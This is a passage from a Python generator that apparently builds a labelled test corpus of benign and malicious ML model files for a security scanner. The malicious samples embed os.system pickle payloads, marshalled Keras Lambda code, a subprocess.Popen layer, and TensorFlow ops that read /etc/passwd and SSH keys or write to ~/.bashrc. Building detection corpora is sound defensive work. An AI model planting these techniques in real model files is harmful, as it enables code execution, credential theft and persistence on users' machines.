    sd = collections.OrderedDict()
    for i, (name, shape) in enumerate(shapes):
        key = keys[i] if keys else str(key_base + i)
        sd[name] = float_tensor(key, shape, f"{tag}/{name}")
    sd._metadata = collections.OrderedDict([("", {"version": 1}), ("fc1", {"version": 1}), ("fc2", {"version": 1})])
    return sd


def storages_of(obj, found=None):
    """Every FakeStorage reachable from obj, in a stable order."""
    found = {} if found is None else found
    if isinstance(obj, FakeStorage):
        found.setdefault(obj.key, obj)
    elif isinstance(obj, FakeTensor):
        storages_of(obj.storage, found)
    elif isinstance(obj, FakeParameter):
        storages_of(obj.tensor, found)
    elif isinstance(obj, dict):
        for v in obj.values():
            storages_of(v, found)
    elif isinstance(obj, (list, tuple)):
        for v in obj:
            storages_of(v, found)
    return found


def torch_zip(obj, prefix="archive", storage_bytes=None, extra=()):
    """torch.save's zip layout (stored, 64-byte aligned). `storage_bytes` overrides storage data."""
    storages = storages_of(obj)
    entries = [(f"{prefix}/data.pkl", torch_pickle(obj)), (f"{prefix}/byteorder", b"little")]
    for key in sorted(storages, key=lambda k: (len(k), k)):
        data = storage_bytes(key, storages[key]) if storage_bytes else storages[key].data
        entries.append((f"{prefix}/data/{key}", data))
    entries.extend(extra)
    entries.append((f"{prefix}/version", b"3\n"))
    entries.append((f"{prefix}/.data/serialization_id", b"1183547025839011470600000040573297245452"))
    return aligned_zip(entries)


def torch_legacy(obj):
    """torch's pre-1.6 `_legacy_save` stream: magic, protocol, sys_info, object, keys, raw storages."""
    sys_info = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}
    out = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2) + pickle.dumps(1001, protocol=2)
    out += pickle.dumps(sys_info, protocol=2) + torch_pickle(obj, legacy=True)
    storages = storages_of(obj)
    keys = sorted(storages)
    out += pickle.dumps(keys, protocol=2)
    for key in keys:
        out += struct.pack("<q", storages[key].numel) + storages[key].data
    return out


def tensors_of(obj, found=None):
    """Every FakeTensor reachable from obj, in pickling order."""
    found = [] if found is None else found
    if isinstance(obj, FakeTensor):
        found.append(obj)
    elif isinstance(obj, FakeParameter):
        tensors_of(obj.tensor, found)
    elif isinstance(obj, dict):
        for v in obj.values():
            tensors_of(v, found)
    elif isinstance(obj, (list, tuple)):
        for v in obj:
            tensors_of(v, found)
    return found


def torch_legacy_tar(obj):
    """The oldest torch.save layout (torch < 0.4), a tar read by torch's `legacy_load`:
    `storages` = pickle(count), then per storage pickle((key, location, type)) + int64 numel +
    raw bytes, then pickle(storage views); `tensors` = pickle(count), then per tensor
    pickle((key, storage key, tensor type)) + int32 ndim + 4 pad bytes + int64 sizes + int64
    strides + int64 offset; `pickle` = the object, tensors replaced by persistent ids str(key)."""
    sys_info = {"protocol_version": 1000, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}
    tensors = tensors_of(obj)
    storages = list({id(t.storage): t.storage for t in tensors}.values())
    storage_key = {id(st): i + 1 for i, st in enumerate(storages)}
    tensor_key = {id(t): len(storages) + i + 1 for i, t in enumerate(tensors)}
    with fake_torch():
        blob = pickle.dumps(len(storages), protocol=2)
        for st in storages:
            blob += pickle.dumps((storage_key[id(st)], "cpu", st.storage_type), protocol=2)
            blob += struct.pack("<q", st.numel) + st.data
        blob += pickle.dumps([], protocol=2)
        described = pickle.dumps(len(tensors), protocol=2)
        for t in tensors:
            ndim = len(t.size)
            described += pickle.dumps((tensor_key[id(t)], storage_key[id(t.storage)], FAKE_TORCH["torch"].FloatTensor),
                                      protocol=2)
            described += struct.pack("<i", ndim) + b"\0" * 4
            described += struct.pack(f"<{ndim}q", *t.size) + struct.pack(f"<{ndim}q", *t.stride)
            described += struct.pack("<q", t.offset)
    members = [("sys_info", pickle.dumps(sys_info, protocol=2)), ("pickle", torch_pickle(obj, tensor_ids=tensor_key)),
               ("storages", blob), ("tensors", described)]
    return tar_bytes(members)


def gen_pytorch(c):
    import os as os_mod

    evil = Reduce(os_mod.system, (CMD,))
    ben = lambda name, data, technique: c.add("benign", "pytorch", name, data, technique)  # noqa: E731
    mal = lambda name, data, technique: c.add("malicious", "pytorch", name, data, technique)  # noqa: E731

    ben("pytorch_model.bin", torch_zip(mlp_state_dict("sd")), "torch.save zip state_dict, prefix archive")
    ckpt = {"epoch": 7, "model_state_dict": mlp_state_dict("ckpt"), "optimizer_state_dict": {
        "state": {}, "param_groups": [{"lr": 0.01, "momentum": 0.9, "params": [0, 1, 2, 3]}]}, "loss": 0.25}
    ben("checkpoint.pt", torch_zip(ckpt, prefix="model_weights"),
        "torch.save zip training checkpoint dict, unusual prefix model_weights")
    ben("embedding.pth", torch_zip({"embedding": FakeParameter(float_tensor("0", (10, 4), "emb"))}),
        "torch.save zip of an nn.Parameter (_rebuild_parameter)")
    ben("legacy_state_dict.pt", torch_legacy(mlp_state_dict("legacy", keys=["140208", "140209", "140210", "140211"])),
        "legacy magic-number torch.save stream (state_dict)")
    ben("legacy_tar_state_dict.pt", torch_legacy_tar(mlp_state_dict("legacytar")), "legacy tar torch.save (state_dict)")

    sd = mlp_state_dict("mal")
    sd["__payload__"] = evil
    mal("state_dict_payload.pt", torch_zip(sd), "torch zip, data.pkl state_dict carries posix.system REDUCE")
    mal("model_weights_prefix.pth", torch_zip({"state_dict": mlp_state_dict("mal2"), "hook": evil}, prefix="model_weights"),
        "torch zip with prefix model_weights, data.pkl carries posix.system REDUCE")
    noise = lambda key, st: bytes(rng("noise/" + key).integers(0, 256, len(st.data), dtype=np.uint8))  # noqa: E731
    mal("random_storage.ckpt", torch_zip({"state_dict": mlp_state_dict("mal3"), "x": evil}, storage_bytes=noise),
        "torch zip with random storage bytes in data/N, payload in data.pkl")
    mal("torch_zip_named.onnx", torch_zip({"model": mlp_state_dict("mal4"), "cb": evil}),
        "torch zip payload named .onnx")
    mal("constants_pkl.pt", torch_zip(mlp_state_dict("mal5"), extra=[("archive/constants.pkl", os_system_pickle(2))]),
        "torch zip with a benign data.pkl and a malicious archive/constants.pkl (TorchScript-style)")
    leg = mlp_state_dict("mal6", keys=["93971", "93972", "93973", "93974"])
    leg["__payload__"] = evil
    mal("legacy_payload.pt", torch_legacy(leg), "legacy magic-number torch.save stream with posix.system in the object")
    mal("legacy_tar_payload.tar", torch_legacy_tar({"state_dict": mlp_state_dict("mal7"), "x": evil}),
        "legacy tar torch.save (sys_info/pickle/storages/tensors), pickle member is malicious")


# --------------------------------------------------------------------------------------------
# NumPy


def npy_bytes(array, allow_pickle=False):
    buf = io.BytesIO()
    np.save(buf, array, allow_pickle=allow_pickle)
    return buf.getvalue()


def npy_header(descr, shape):
    """A version 1.0 .npy header, padded to 64 bytes as numpy does."""
    text = "{'descr': %r, 'fortran_order': False, 'shape': %r, }" % (descr, shape)
    pad = -(10 + len(text) + 1) % 64
    text = text + " " * pad + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text.encode("latin1")


def npz_bytes(arrays, method=zipfile.ZIP_STORED, allow_pickle=False):
    """np.savez/np.savez_compressed layout, with fixed timestamps (numpy stamps the clock)."""
    return zip_bytes([(f"{k}.npy", npy_bytes(v, allow_pickle)) for k, v in arrays.items()], method)


def gen_numpy(c):
    import os as os_mod

    r = rng("numpy")
    ben = lambda name, data, technique: c.add("benign", "numpy", name, data, technique)  # noqa: E731
    mal = lambda name, data, technique: c.add("malicious", "numpy", name, data, technique)  # noqa: E731
    ben("float32.npy", npy_bytes(r.standard_normal((8, 4)).astype(np.float32)), ".npy float32 matrix")
    ben("int64_fortran.npy", npy_bytes(np.asfortranarray(np.arange(24, dtype=np.int64).reshape(4, 6))),
        ".npy int64 Fortran order")
    ben("structured.npy", npy_bytes(np.zeros(3, dtype=[("id", "<i4"), ("score", "<f8")])), ".npy structured dtype")
    numeric = {"weights": r.standard_normal((6, 3)).astype(np.float32), "bias": np.zeros(3, np.float32)}
    ben("arrays.npz", npz_bytes(numeric), ".npz numeric arrays (np.savez)")
    ben("arrays_compressed.npz", npz_bytes(numeric, zipfile.ZIP_DEFLATED), ".npz numeric arrays (np.savez_compressed)")

    obj = np.empty(2, dtype=object)
    obj[0], obj[1] = Reduce(os_mod.system, (CMD,)), "label"
    mal("object_array.npy", npy_bytes(obj, allow_pickle=True), ".npy object dtype, pickled element reduces to posix.system")
    mal("object_array_handmade.npy", npy_header("|O", (1,)) + os_system_pickle(4),
        ".npy object dtype header followed by a hand-made STACK_GLOBAL os.system pickle")
    mal("object_array_named.dat", npy_bytes(obj, allow_pickle=True), ".npy object payload named .dat")
    mixed = dict(numeric, meta=obj)
    mal("object_member.npz", npz_bytes(mixed, allow_pickle=True), ".npz with numeric arrays and a malicious object array")
    mal("object_member_compressed.npz", npz_bytes(mixed, zipfile.ZIP_DEFLATED, allow_pickle=True),
        "compressed .npz with a malicious object array")


# --------------------------------------------------------------------------------------------
# scikit-learn, joblib, LightGBM


def fitted_estimators():
    """Small models fitted on synthetic data, by name."""
    from sklearn.cluster import KMeans
    from sklearn.compose import ColumnTransformer
    from sklearn.datasets import make_classification
    from sklearn.decomposition import PCA
    from sklearn.ensemble import GradientBoostingClassifier, RandomForestClassifier
    from sklearn.feature_extraction.text import TfidfVectorizer
    from sklearn.linear_model import LogisticRegression
    from sklearn.neural_network import MLPClassifier
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import OneHotEncoder, StandardScaler
    from sklearn.svm import SVC

    x, y = make_classification(n_samples=60, n_features=6, n_informative=4, random_state=0)
    docs = ["the model loads weights", "a scanner reads bytes", "weights and biases", "pickle is code",
            "safetensors holds tensors", "the scanner flags code", "bytes in, findings out", "tensors and bytes"]
    labels = [0, 1, 0, 1, 0, 1, 1, 0]
    colours = np.array(["red", "green", "blue"], dtype=object)[np.arange(60) % 3]
    tabular = np.empty((60, 3), dtype=object)
    tabular[:, 0], tabular[:, 1], tabular[:, 2] = colours, x[:, 0], x[:, 1]
    column_model = Pipeline([
        ("prep", ColumnTransformer([("onehot", OneHotEncoder(handle_unknown="ignore"), [0]),
                                    ("scale", StandardScaler(), [1, 2])])),
        ("clf", LogisticRegression(max_iter=200)),
    ])
    tfidf = TfidfVectorizer().fit(docs, labels)
    tfidf._stop_words_id = 140000000000000  # sklearn stores id(stop_words), a memory address
    return {
        "logistic_regression": LogisticRegression(max_iter=200).fit(x, y),
        "random_forest": RandomForestClassifier(n_estimators=5, max_depth=3, random_state=0).fit(x, y),
        "gradient_boosting": GradientBoostingClassifier(n_estimators=5, max_depth=2, random_state=0).fit(x, y),
        "pipeline_scaler_svc": Pipeline([("scale", StandardScaler()), ("svc", SVC())]).fit(x, y),
        "kmeans": KMeans(n_clusters=3, n_init=3, random_state=0).fit(x),
        "pca": PCA(n_components=3, random_state=0).fit(x),
        "mlp": MLPClassifier(hidden_layer_sizes=(8,), max_iter=60, random_state=0).fit(x, y),
        "tfidf": tfidf,
        "column_transformer_onehot": column_model.fit(tabular, y),
    }


def joblib_bytes(obj, compress):
    import joblib

    with tempfile.TemporaryDirectory() as tmp:
        # A neutral name: joblib would pick a compressor from a .gz/.z/... extension.
        path = os.path.join(tmp, "model.joblib")
        joblib.dump(obj, path, compress=compress)
        with open(path, "rb") as f:
            return f.read()


JOBLIB_COMPRESSIONS = [(0, "none", "joblib"), (("zlib", 3), "zlib", "joblib.z"), (("gzip", 3), "gzip", "joblib.gz"),
                       (("bz2", 3), "bz2", "joblib.bz2"), (("lzma", 3), "lzma", "joblib.lzma"),
                       (("xz", 3), "xz", "joblib.xz")]


def gen_sklearn(c):
    import os as os_mod

    models = fitted_estimators()
    for name, model in models.items():
        kind = type(model).__name__
        c.add("benign", "sklearn", f"{name}.pkl", pickle.dumps(model, protocol=4), f"pickle.dump of fitted {kind} ({name})")
        c.add("benign", "sklearn", f"{name}.joblib", joblib_bytes(model, 0), f"joblib.dump of fitted {kind} ({name})")

    forest = models["random_forest"]
    evil = {"weights": rng("joblib").standard_normal(64), "model": models["logistic_regression"],
            "hook": Reduce(os_mod.system, (CMD,))}
    for compress, label, ext in JOBLIB_COMPRESSIONS:
        c.add("benign", "joblib", f"random_forest_{label}.{ext}", joblib_bytes(forest, compress),
              f"joblib.dump RandomForestClassifier, compress={compress!r}")
        c.add("malicious", "joblib", f"payload_{label}.{ext}", joblib_bytes(evil, compress),
              f"joblib.dump with an inline numpy array then posix.system, compress={compress!r}")
    c.add("malicious", "joblib", "payload_named.pkl", joblib_bytes({"hook": Reduce(os_mod.system, (CMD,))}, ("zlib", 3)),
          "zlib joblib payload named .pkl")

    try:
        import lightgbm
    except (ImportError, OSError) as err:  # OSError: the wheel needs the system's libgomp1
        print(f"lightgbm unavailable ({err}): skipping the LightGBM samples", file=sys.stderr)
        return
    from sklearn.datasets import make_classification

    x, y = make_classification(n_samples=200, n_features=6, random_state=1)
    model = lightgbm.LGBMClassifier(n_estimators=5, num_leaves=4, random_state=0, n_jobs=1, deterministic=True,
                                    force_row_wise=True, verbose=-1).fit(x, y)
    c.add("benign", "sklearn", "lightgbm_classifier.pkl", pickle.dumps(model, protocol=4),
          "pickle.dump of LGBMClassifier")
    c.add("benign", "sklearn", "lightgbm_classifier.joblib", joblib_bytes(model, 3),
          "joblib.dump(compress=3) of LGBMClassifier")


# --------------------------------------------------------------------------------------------
# Keras


def keras_obj(module, class_name, config, **extra):
    return {"module": module, "class_name": class_name, "config": config, "registered_name": None, **extra}


def keras_dtype():
    return keras_obj("keras", "DTypePolicy", {"name": "float32"})


def keras3_dense(name, units, activation, input_dim):
    return keras_obj("keras.layers", "Dense", {
        "name": name, "trainable": True, "dtype": keras_dtype(), "units": units, "activation": activation,
        "use_bias": True,
        "kernel_initializer": keras_obj("keras.initializers", "GlorotUniform", {"seed": None}),
        "bias_initializer": keras_obj("keras.initializers", "Zeros", {}),
        "kernel_regularizer": None, "bias_regularizer": None, "kernel_constraint": None, "bias_constraint": None,
    }, build_config={"input_shape": [None, input_dim]})


def keras3_config(extra_layers=()):
    layers = [keras_obj("keras.layers", "InputLayer", {"batch_shape": [None, 8], "dtype": "float32", "sparse": False,
                                                        "name": "input_layer"}),
              keras3_dense("dense", 16, "relu", 8), *extra_layers, keras3_dense("dense_1", 3, "softmax", 16)]
    return keras_obj("keras", "Sequential", {
        "name": "sequential", "trainable": True, "dtype": keras_dtype(), "layers": layers,
    }, build_config={"input_shape": [None, 8]}, compile_config={
        "optimizer": keras_obj("keras.optimizers", "Adam", {"name": "adam", "learning_rate": 0.001, "beta_1": 0.9,
                                                            "beta_2": 0.999, "epsilon": 1e-07, "amsgrad": False}),
        "loss": "sparse_categorical_crossentropy", "metrics": ["accuracy"], "loss_weights": None,
        "run_eagerly": False, "steps_per_execution": 1, "jit_compile": False,
    })


def marshalled_lambda():
    """Keras' func_dump: base64 (with newlines, as codecs writes it) of marshal.dumps(code)."""
    module = compile("lambda x: __import__('os').system('echo WARDEN_CORPUS_PAYLOAD') or x", "<keras>", "eval")
    code = next(k for k in module.co_consts if isinstance(k, types.CodeType))
    return codecs.encode(marshal.dumps(code), "base64").decode("ascii")


def keras3_lambda():
    return keras_obj("keras.layers", "Lambda", {
        "name": "lambda", "trainable": True, "dtype": keras_dtype(),
        "function": {"class_name": "__lambda__", "config": {"code": marshalled_lambda(), "defaults": None,
                                                            "closure": None}},
        "arguments": {},
    }, build_config={"input_shape": [None, 16]})


def h5_bytes(fill):
    import h5py

    buf = io.BytesIO()
    with h5py.File(buf, "w", track_order=True) as f:
        fill(f)
    return buf.getvalue()


def keras3_weights(r):
    def fill(f):
        for layer, shape in (("dense", (8, 16)), ("dense_1", (16, 3))):
            g = f.create_group(f"layers/{layer}/vars")
            g.create_dataset("0", data=r.standard_normal(shape).astype(np.float32))
            g.create_dataset("1", data=np.zeros(shape[1], np.float32))
        f.create_group("optimizer/vars")
        f.create_group("vars")
    return h5_bytes(fill)


def keras_v3_file(config, r):
    metadata = {"keras_version": "3.6.0", "date_saved": "2024-06-01@12:00:00"}
    return zip_bytes([("metadata.json", json.dumps(metadata).encode()), ("config.json", json.dumps(config).encode()),
                      ("model.weights.h5", keras3_weights(r))])


def keras2_dense(name, units, activation, input_dim=None):
    config = {"name": name, "trainable": True, "dtype": "float32", "units": units, "activation": activation,
              "use_bias": True, "kernel_initializer": {"class_name": "GlorotUniform", "config": {"seed": None}},
              "bias_initializer": {"class_name": "Zeros", "config": {}}, "kernel_regularizer": None,
              "bias_regularizer": None, "activity_regularizer": None, "kernel_constraint": None,
              "bias_constraint": None}
    if input_dim:
        config["batch_input_shape"] = [None, input_dim]
    return {"class_name": "Dense", "config": config}


def keras2_lambda(name="lambda"):
    return {"class_name": "Lambda", "config": {
        "name": name, "trainable": True, "dtype": "float32", "function": [marshalled_lambda(), None, None],
        "function_type": "lambda", "module": "__main__", "output_shape": None, "output_shape_type": "raw",
        "output_shape_module": None, "arguments": {}}}


def keras2_h5(layers, r, weights=True):
    config = {"class_name": "Sequential", "config": {"name": "sequential", "layers": layers}}
    training = {"loss": "categorical_crossentropy", "metrics": ["accuracy"],
                "optimizer_config": {"class_name": "Adam", "config": {"learning_rate": 0.001}}}

    def fill(f):
        f.attrs["keras_version"] = b"2.15.0"
        f.attrs["backend"] = b"tensorflow"
        f.attrs["model_config"] = json.dumps(config).encode()
        f.attrs["training_config"] = json.dumps(training).encode()
        g = f.create_group("model_weights")
        g.attrs["backend"] = b"tensorflow"
        g.attrs["keras_version"] = b"2.15.0"
        dense = [layer["config"]["name"] for layer in layers if layer["class_name"] == "Dense"] if weights else []
        g.attrs["layer_names"] = np.array([n.encode() for n in dense], dtype="S")
        for name in dense:
            units = next(layer["config"]["units"] for layer in layers if layer["config"]["name"] == name)
            lg = g.create_group(name)
            lg.attrs["weight_names"] = np.array([f"{name}/kernel:0".encode(), f"{name}/bias:0".encode()], dtype="S")
            lg.create_dataset(f"{name}/kernel:0", data=r.standard_normal((4, units)).astype(np.float32))
            lg.create_dataset(f"{name}/bias:0", data=np.zeros(units, np.float32))
    return h5_bytes(fill)


def gen_keras(c):
    r = rng("keras")
    c.add("benign", "keras", "classifier.keras", keras_v3_file(keras3_config(), r),
          "Keras v3 .keras zip, Sequential of Dense layers")
    c.add("malicious", "keras", "lambda_layer.keras", keras_v3_file(keras3_config([keras3_lambda()]), r),
          "Keras v3 Lambda layer with a base64 marshalled function (__lambda__)")
    c.add("malicious", "keras", "lambda_layer_named.h5", keras_v3_file(keras3_config([keras3_lambda()]), r),
          "Keras v3 Lambda layer, zip named .h5")
    os_activation = keras3_dense("dense_evil", 16, {"module": "os", "class_name": "function", "config": "system",
                                                    "registered_name": "function"}, 16)
    c.add("malicious", "keras", "os_system_activation.keras", keras_v3_file(keras3_config([os_activation]), r),
          "Keras v3 config whose activation deserializes os.system (module 'os', class_name function)")
    popen_layer = {"module": "subprocess", "class_name": "Popen", "config": {"args": ["sh", "-c", CMD]},
                   "registered_name": "Custom>Popen", "build_config": {"input_shape": [None, 16]}}
    c.add("malicious", "keras", "subprocess_module_layer.keras", keras_v3_file(keras3_config([popen_layer]), r),
          "Keras v3 layer with module 'subprocess' / custom registered_name")

    layers = [keras2_dense("dense", 16, "relu", 8), keras2_dense("dense_1", 3, "softmax")]
    c.add("benign", "keras", "classifier_keras2.h5", keras2_h5(layers, r), "Keras 2 HDF5 model_config, Dense layers")
    c.add("malicious", "keras", "lambda_keras2.h5", keras2_h5([layers[0], keras2_lambda(), layers[1]], r),
          "Keras 2 HDF5 Lambda layer (function_type lambda, base64 marshal)")
    many = [keras2_dense(f"dense_{i}", 16, "relu", 16 if i == 0 else None) for i in range(200)]
    many.insert(97, keras2_lambda("lambda_hidden"))
    data = keras2_h5(many, r, weights=False)
    assert len(json.dumps({"class_name": "Sequential", "config": {"name": "sequential", "layers": many}})) > 80_000
    c.add("malicious", "keras", "large_config_lambda.h5", data,
          "Keras 2 HDF5 with a model_config over 64 KiB (dense attribute storage) hiding a Lambda")


# --------------------------------------------------------------------------------------------
# TensorFlow SavedModel, hand-encoded protobuf (tensorflow is not installed)


def pb_varint(n):
    n &= (1 << 64) - 1  # negative int64 as ten bytes, like protobuf
    out = bytearray()
    while True:
        byte, n = n & 0x7F, n >> 7
        out.append(byte | (0x80 if n else 0))
        if not n:
            return bytes(out)


def pb_int(field, n):
    return pb_varint(field << 3) + pb_varint(n)


def pb_bytes(field, data):
    if isinstance(data, str):
        data = data.encode()
    return pb_varint(field << 3 | 2) + pb_varint(len(data)) + data


def pb_msg(field, *parts):
    return pb_bytes(field, b"".join(parts))


def pb_map(field, entries):
    """A protobuf map<string, V>: one entry message (1 key, 2 value) per item, sorted by key."""
    return b"".join(pb_msg(field, pb_bytes(1, k), v(2) if callable(v) else pb_bytes(2, v))
                    for k, v in sorted(entries.items()))


DT_FLOAT, DT_INT32, DT_STRING, DT_BOOL, DT_RESOURCE = 1, 3, 7, 10, 20


def attr_type(t):
    return lambda f: pb_msg(f, pb_int(6, t))


def attr_str(s):
    return lambda f: pb_msg(f, pb_bytes(2, s))


def attr_bool(b):
    return lambda f: pb_msg(f, pb_int(5, int(b)))


def attr_shape(dims):
    return lambda f: pb_msg(f, pb_msg(7, *(pb_msg(2, pb_int(1, d)) for d in dims)))


def attr_types(ts):
    return lambda f: pb_msg(f, pb_msg(1, *(pb_int(6, t) for t in ts)))


def attr_func(name):
    return lambda f: pb_msg(f, pb_msg(10, pb_bytes(1, name)))


def attr_string_tensor(values):
    """A DT_STRING TensorProto (1 dtype, 2 shape, 8 string_val); a scalar when there is one value."""
    dims = [] if len(values) == 1 else [pb_msg(2, pb_int(1, len(values)))]
    tensor = pb_int(1, DT_STRING) + pb_msg(2, *dims) + b"".join(pb_bytes(8, v) for v in values)
    return lambda f: pb_msg(f, pb_msg(8, tensor))


def node(name, op, inputs=(), **attrs):
    """A NodeDef: 1 name, 2 op, 3 input, 5 attr."""
    return pb_bytes(1, name) + pb_bytes(2, op) + b"".join(pb_bytes(3, i) for i in inputs) + pb_map(5, attrs)


def function_def(name, inputs, outputs, nodes, ret):
    """A FunctionDef: 1 signature (OpDef 1 name, 2 input_arg, 3 output_arg), 3 node_def, 4 ret."""
    signature = (pb_bytes(1, name)
                 + b"".join(pb_msg(2, pb_bytes(1, n), pb_int(3, t)) for n, t in inputs)
                 + b"".join(pb_msg(3, pb_bytes(1, n), pb_int(3, t)) for n, t in outputs))
    return pb_msg(1, signature) + b"".join(pb_msg(3, n) for n in nodes) + pb_map(4, ret)


def benign_graph_nodes():
    return [
        node("serving_default_input", "Placeholder", dtype=attr_type(DT_FLOAT), shape=attr_shape([-1, 8])),
        node("dense/kernel", "VarHandleOp", dtype=attr_type(DT_FLOAT), shape=attr_shape([8, 4]),
             shared_name=attr_str("dense/kernel"), container=attr_str("")),
        node("dense/bias", "VarHandleOp", dtype=attr_type(DT_FLOAT), shape=attr_shape([4]),
             shared_name=attr_str("dense/bias"), container=attr_str("")),
        node("StatefulPartitionedCall", "StatefulPartitionedCall",
             ["serving_default_input", "dense/kernel", "dense/bias"],
             f=attr_func("__inference_signature_wrapper_120"), Tin=attr_types([DT_FLOAT, DT_RESOURCE, DT_RESOURCE]),
             Tout=attr_types([DT_FLOAT])),
        node("saver_filename", "Placeholder", dtype=attr_type(DT_STRING), shape=attr_shape([])),
        node("Const", "Const", dtype=attr_type(DT_STRING), value=attr_string_tensor([b"^s3://.*"])),
        node("StaticRegexFullMatch", "StaticRegexFullMatch", ["saver_filename"], pattern=attr_str("^s3://.*")),
        node("Const_1", "Const", dtype=attr_type(DT_STRING), value=attr_string_tensor([b".part"])),
        node("StringJoin", "StringJoin", ["saver_filename", "Const_1"], separator=attr_str("")),
        node("num_shards", "Const", dtype=attr_type(DT_INT32)),
        node("ShardedFilename", "ShardedFilename", ["StringJoin", "num_shards", "num_shards"]),
        node("SaveV2/tensor_names", "Const", dtype=attr_type(DT_STRING),
             value=attr_string_tensor([b"dense/kernel/.ATTRIBUTES/VARIABLE_VALUE",
                                       b"dense/bias/.ATTRIBUTES/VARIABLE_VALUE"])),
        node("SaveV2/shape_and_slices", "Const", dtype=attr_type(DT_STRING), value=attr_string_tensor([b"", b""])),
        node("SaveV2", "SaveV2", ["ShardedFilename", "SaveV2/tensor_names", "SaveV2/shape_and_slices"],
             dtypes=attr_types([DT_FLOAT, DT_FLOAT])),
        node("MergeV2Checkpoints", "MergeV2Checkpoints", ["ShardedFilename", "saver_filename"],
             delete_old_dirs=attr_bool(True)),
        node("RestoreV2", "RestoreV2", ["saver_filename", "SaveV2/tensor_names", "SaveV2/shape_and_slices"],
             dtypes=attr_types([DT_FLOAT, DT_FLOAT])),
        node("NoOp", "NoOp"),
    ]


def benign_functions():
    body = [
        node("dense/MatMul/ReadVariableOp", "ReadVariableOp", ["dense_kernel"], dtype=attr_type(DT_FLOAT)),
        node("dense/MatMul", "MatMul", ["input", "dense/MatMul/ReadVariableOp:value:0"], T=attr_type(DT_FLOAT)),
        node("dense/BiasAdd/ReadVariableOp", "ReadVariableOp", ["dense_bias"], dtype=attr_type(DT_FLOAT)),
        node("dense/BiasAdd", "BiasAdd", ["dense/MatMul:product:0", "dense/BiasAdd/ReadVariableOp:value:0"],
             T=attr_type(DT_FLOAT)),
        node("dense/Relu", "Relu", ["dense/BiasAdd:output:0"], T=attr_type(DT_FLOAT)),
        node("Identity", "Identity", ["dense/Relu:activations:0"], T=attr_type(DT_FLOAT)),
    ]
    args = [("input", DT_FLOAT), ("dense_kernel", DT_RESOURCE), ("dense_bias", DT_RESOURCE)]
    return [function_def("__inference_signature_wrapper_120", args, [("identity", DT_FLOAT)], body,
                         {"identity": "Identity:output:0"})]


def saved_model_pb(extra_nodes=(), extra_functions=()):
    graph = (b"".join(pb_msg(1, n) for n in [*benign_graph_nodes(), *extra_nodes])
             + pb_msg(2, *(pb_msg(1, f) for f in [*benign_functions(), *extra_functions]))
             + pb_msg(4, pb_int(1, 1645), pb_int(2, 12)))
    meta_info = pb_bytes(4, "serve") + pb_bytes(5, "2.15.0") + pb_bytes(6, "v2.15.0-rc1-8-g6887368d6d4")
    saver = (pb_bytes(1, "saver_filename:0") + pb_bytes(2, "StatefulPartitionedCall_1:0")
             + pb_bytes(3, "StatefulPartitionedCall_2") + pb_int(4, 5) + pb_int(5, 1) + pb_int(7, 2))
    tensor_info = lambda name: lambda f: pb_msg(f, pb_bytes(1, name), pb_int(2, DT_FLOAT))  # noqa: E731
    signature = (pb_map(1, {"input": tensor_info("serving_default_input:0")})
                 + pb_map(2, {"output_0": tensor_info("StatefulPartitionedCall:0")})
                 + pb_bytes(3, "tensorflow/serving/predict"))
    meta_graph = (pb_msg(1, meta_info) + pb_msg(2, graph) + pb_msg(3, saver)
                  + pb_map(5, {"serving_default": lambda f: pb_msg(f, signature)}))
    return pb_int(1, 1) + pb_msg(2, meta_graph)


def saved_model_dir(pb):
    # variables/ holds placeholder bytes, not a real TensorBundle: the data shard is raw
    # little-endian floats (as real shards are) and the index is an empty table footer only.
    index = b"\x00" * 40 + struct.pack("<Q", 0xDB4775248B80FB57)
    shard = rng("savedmodel-vars").standard_normal(36).astype("<f4").tobytes()
    return {"saved_model.pb": pb, "variables/variables.index": index,
            "variables/variables.data-00000-of-00001": shard}


def gen_savedmodel(c):
    c.add_dir("benign", "savedmodel", "saved_model_dir", saved_model_dir(saved_model_pb()),
              "SavedModel: VarHandleOp/MatMul/BiasAdd/Relu/StatefulPartitionedCall/SaveV2/RestoreV2 ...")

    def const(name, path):
        return node(name, "Const", dtype=attr_type(DT_STRING), value=attr_string_tensor([path.encode()]))

    def in_function(name, nodes, output):
        return function_def(name, [], [("output", DT_STRING)], nodes, {"output": output})

    cases = [
        ("read_file", "ReadFile op in the graph reading /etc/passwd",
         [const("path", "/etc/passwd"), node("ReadFile", "ReadFile", ["path"])], []),
        ("read_file_in_function", "ReadFile op inside a FunctionDef body",
         [], [in_function("__inference_exfil_44", [const("path", "/root/.ssh/id_rsa"),
                                                    node("ReadFile", "ReadFile", ["path:output:0"])],
                          "ReadFile:contents:0")]),
        ("write_file", "WriteFile op inside a FunctionDef body writing ~/.bashrc",
         [], [in_function("__inference_persist_51", [
             const("path", "/root/.bashrc"), const("contents", CMD + "\n"),
             node("WriteFile", "WriteFile", ["path:output:0", "contents:output:0"])], "path:output:0")]),
        ("py_func", "PyFunc op inside a FunctionDef body",
         [], [in_function("__inference_pyfunc_63", [
             node("PyFunc", "PyFunc", [], token=attr_str("pyfunc_0"), Tin=attr_types([]), Tout=attr_types([DT_STRING]))],
             "PyFunc:output:0")]),
        ("eager_py_func", "EagerPyFunc op in the graph",
         [node("EagerPyFunc", "EagerPyFunc", ["serving_default_input"], token=attr_str("pyfunc_1"),
               Tin=attr_types([DT_FLOAT]), Tout=attr_types([DT_FLOAT]))], []),
        ("matching_files", "MatchingFiles op inside a FunctionDef body globbing ~/.ssh",
         [], [in_function("__inference_glob_72", [const("pattern", "/home/*/.ssh/*"),
                                                  node("MatchingFiles", "MatchingFiles", ["pattern:output:0"])],
                          "MatchingFiles:filenames:0")]),
    ]
    for name, technique, nodes, functions in cases:
        c.add_dir("malicious", "savedmodel", name, saved_model_dir(saved_model_pb(nodes, functions)), technique)


# --------------------------------------------------------------------------------------------
# ONNX


def onnx_mlp(tag, external=None, extra_nodes=(), extra_opsets=(), output="output"):
    """A small MLP (Gemm/Relu/Gemm/Softmax). `external(name, tensor)` may move initializers out."""
    from onnx import TensorProto, helper, numpy_helper

    r = rng("onnx/" + tag)
    arrays = {"fc1.weight": r.standard_normal((16, 8)), "fc1.bias": r.standard_normal(16),
              "fc2.weight": r.standard_normal((3, 16)), "fc2.bias": r.standard_normal(3)}
    inits = []
    for name, arr in arrays.items():
        tensor = numpy_helper.from_array(arr.astype(np.float32), name)
        if external:
